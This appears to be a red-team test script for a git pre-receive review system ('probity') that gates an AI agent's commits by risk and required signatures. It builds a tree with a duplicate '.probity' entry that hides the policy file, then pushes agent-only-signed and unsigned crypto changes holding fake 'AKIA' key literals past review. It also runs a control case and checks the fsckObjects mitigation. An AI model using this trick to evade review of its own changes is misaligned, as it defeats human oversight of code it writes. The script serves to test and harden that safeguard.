#!/usr/bin/env bash
RT11=${RT11:-$(cd "$(dirname "$0")" && pwd)}
# A tree with two entries named `.probity`: a blob, then the policy's own
# directory (git's sort order puts a blob `n` before a tree `n/`, so the
# tree is "sorted", only duplicated; fsck calls it duplicateEntries, which
# the server does not run by default).
#  - git diff-tree BASE T lists one change: `.probity` (a blob) added. Not
#    under `.probity/`, so no policy_floor; the agent's own signature
#    approves it (medium or lower).
#  - git's path lookup (`T:.probity/policy.json`, get_tree_entry) meets the
#    blob first and stops: the policy is absent at every later base.
# Step 2: with main at T, a crypto/** change with AKIA, approved by the
# agent alone (and, variant b, unsigned), pushed on top.
source "$RT11/common.sh"
setup_team >/dev/null
BASE=$(g rev-parse HEAD)
blob=$(printf 'x\n' | g hash-object -w --stdin)
T=$( { lsentries "$R" HEAD | awk '$2==".probity"{print "100644 .probity '"$blob"'"} {print}'; } | rawtree "$R")
echo "T entries:"; g ls-tree "$T" | sed 's/^/    /'
echo "diff-tree BASE T:"; g diff-tree -r "$BASE" "$T" | sed 's/^/    /'
echo "T:.probity/policy.json readable? $(g cat-file -e "$T:.probity/policy.json" 2>/dev/null && echo yes || echo no)"
C=$(g commit-tree "$T" -p "$BASE" -m "add a marker file")
g update-ref refs/heads/main "$C"
st=$(pj start --commit "$C"); echo "start: $(jq -c '{risk_level,risk_reasons,selected_lenses}' <<<"$st" 2>/dev/null || echo "$st")"
L1=$(approve_started "$st") && sign agent "$L1"
out=$(push_past main); verdict "01a-dup-entry-tree(agent-signed)" main "$C" "$out"
[ "$(smain main)" = "$C" ] || { echo "$out" | tail -8 | sed 's/^/    /'; exit 0; }
echo "server: main:.probity/policy.json readable? $(git -C "$S" cat-file -e "main:.probity/policy.json" 2>/dev/null && echo yes || echo no)"

# step 2: crypto/evil.rs with an AKIA literal, agent-only signature
ev=$(printf 'pub const K: &str = "AKIAABCDEFGHIJKLMNOP";\nfn steal() {}\n' | g hash-object -w --stdin)
ct=$(printf '100644 evil.rs %s\n' "$ev" | rawtree "$R")
T2=$( { lsentries "$R" "$T"; echo "40000 crypto $ct"; } | awk '{print}' | sort -t' ' -k2,2 -s | rawtree "$R")
# keep the duplicate pair's order (blob first): rebuild explicitly
T2=$( { lsentries "$R" "$T" | grep -v ' src '; echo "40000 crypto $ct"; lsentries "$R" "$T" | grep ' src '; } | rawtree "$R")
echo "T2 entries:"; g ls-tree "$T2" | sed 's/^/    /'
C2=$(g commit-tree "$T2" -p "$C" -m "crypto: key")
g update-ref refs/heads/main "$C2"
st=$(pj start --commit "$C2"); echo "start: $(jq -c '{risk_level,risk_reasons,selected_lenses}' <<<"$st" 2>/dev/null || echo "$st")"
L2=$(approve_started "$st") && sign agent "$L2"
out=$(push_past main); verdict "01b-crypto-AKIA-agent-only" main "$C2" "$out"
grep -E "pre-receive (ALLOW|DENY)|no repository policy" <<<"$out" | cut -c1-160 | sed 's/^/    /'
[ "$(smain main)" = "$C2" ] || echo "$out" | tail -8 | sed 's/^/    /'

# 01c: the same crypto/AKIA change UNSIGNED on top (no signature at all)
ev3=$(printf 'pub const K2: &str = "AKIAQQQQQQQQQQQQQQQQ";\n' | g hash-object -w --stdin)
ct3=$(printf '100644 evil.rs %s\n100644 more.rs %s\n' "$ev" "$ev3" | rawtree "$R")
T3=$( { lsentries "$R" "$T" | grep -v ' src '; echo "40000 crypto $ct3"; lsentries "$R" "$T" | grep ' src '; } | rawtree "$R")
C3=$(g commit-tree "$T3" -p "$(smain main)" -m "crypto: more")
g update-ref refs/heads/main "$C3"
L3=$(approve_commit "$C3")
out=$(push_past main); verdict "01c-crypto-AKIA-unsigned" main "$C3" "$out"

# control: the crypto/AKIA change on an ordinary base (policy readable),
# agent-only signature, is refused as the policy demands.
( source "$RT11/common.sh"; setup_team >/dev/null
  mkdir -p "$R/crypto"; printf 'pub const K: &str = "AKIAABCDEFGHIJKLMNOP";\n' > "$R/crypto/evil.rs"
  L=$(approve_live); sign agent "$L"; Y=$(commit_all "crypto: key")
  out=$(push_past main); verdict "01-control-crypto-agent-only-plain-base" main "$Y" "$out" )

# mitigation check: the same step 1 against a server with receive.fsckObjects
( source "$RT11/common.sh"; setup_team >/dev/null
  git -C "$S" config receive.fsckObjects true
  BASE=$(g rev-parse HEAD); blob=$(printf 'x\n' | g hash-object -w --stdin)
  T=$( { lsentries "$R" HEAD | awk '$2==".probity"{print "100644 .probity '"$blob"'"} {print}'; } | rawtree "$R")
  C=$(g commit-tree "$T" -p "$BASE" -m "add a marker file"); g update-ref refs/heads/main "$C"
  L=$(approve_commit "$C"); sign agent "$L"
  out=$(push_past main); verdict "01d-step1-with-receive.fsckObjects" main "$C" "$out"
  grep -iE "duplicate|fsck|error" <<<"$out" | head -3 | sed 's/^/    /' )

# 01e: a teammate's view: a fresh clone of the server after 01a-01c, then
# the agent removes the extra `.probity` blob again (under no policy), so
# main's tree is well formed and the policy readable once more.
git clone -q "$S" "$W/mate" 2>"$W/clone.err"; echo "01e fresh clone: rc=$? $(head -2 "$W/clone.err" | tr '\n' ' ')"
echo "    mate's work tree: $(cd "$W/mate" && ls -A | tr '\n' ' ') ; crypto/: $(ls "$W/mate/crypto" 2>/dev/null | tr '\n' ' ')"
TC=$( lsentries "$R" "$(smain main)^{tree}" | awk '!($1=="100644" && $2==".probity")' | rawtree "$R")
CC=$(g commit-tree "$TC" -p "$(smain main)" -m "tidy"); g update-ref refs/heads/main "$CC"
LC=$(approve_commit "$CC"); sign agent "$LC"
out=$(push_past main); verdict "01e-cleanup-restores-policy" main "$CC" "$out"
echo "    server main:.probity/policy.json readable again? $(git -C "$S" cat-file -e "main:.probity/policy.json" 2>/dev/null && echo yes || echo no); crypto/ at main: $(git -C "$S" ls-tree --name-only main:crypto | tr '\n' ' ')"
git -C "$S" fsck --no-progress 2>&1 | grep -c duplicateEntries | sed 's/^/    server fsck duplicateEntries errors (history): /'
